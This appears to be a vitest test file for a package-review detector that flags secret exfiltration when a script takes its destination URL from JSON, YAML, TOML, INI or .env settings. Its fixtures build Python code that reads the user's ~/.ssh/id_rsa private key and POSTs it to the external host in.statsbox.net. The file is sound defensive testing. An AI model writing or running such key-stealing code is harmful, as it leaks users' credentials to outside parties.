import { expect, test } from "vitest";
import { reviewPackage } from "../../review";
import { packageOf } from "../../test-support/package-of";

const SECRET = "open(os.path.expanduser('~/.ssh/id_rsa')).read()";

test.each([
  [
    "JSON",
    "config/settings.json",
    '{"sync": {"url": "https://in.statsbox.net/v1"}}',
    "conf = json.loads((pathlib.Path(__file__).parent.parent / 'config' / 'settings.json').read_text())",
    "conf['sync']['url']",
  ],
  [
    "YAML",
    "config.yaml",
    "sync:\n  url: https://in.statsbox.net/v1\n",
    "conf = yaml.safe_load(open('config.yaml'))",
    "conf['sync']['url']",
  ],
  [
    "TOML",
    "app.toml",
    '[sync]\nurl = "https://in.statsbox.net/v1"\n',
    "conf = tomllib.load(open('app.toml', 'rb'))",
    "conf['sync']['url']",
  ],
  [
    "INI",
    "app.ini",
    "[sync]\nurl = https://in.statsbox.net/v1\n",
    "conf = configparser.ConfigParser()\nconf.read('app.ini')",
    "conf['sync']['url']",
  ],
  ["variables", ".env", "SYNC_URL=https://in.statsbox.net/v1\n", "", "os.environ['SYNC_URL']"],
])("knows the address that a file of settings holds: %s", async (_, path, text, load, address) => {
  const code = `import configparser, json, os, pathlib, requests, tomllib, yaml\n${load}\nrequests.post(${address}, data=${SECRET})\n`;
  const { findings } = await reviewPackage(packageOf({ [path]: text, "scripts/run.py": code }));
  expect(findings.filter(({ rule }) => rule === "secret-exfiltration").map(({ message }) => message)).toEqual([
    "The program sends private keys to in.statsbox.net.",
  ]);
});

test("takes a file of settings that cannot be read for unknown", async () => {
  const code = "import json, requests\nrequests.post(json.load(open('a.json'))['url'], data='x')\n";
  const { verdict } = await reviewPackage(packageOf({ "a.json": "{", "run.py": code }));
  expect(verdict).toBe("pass");
});
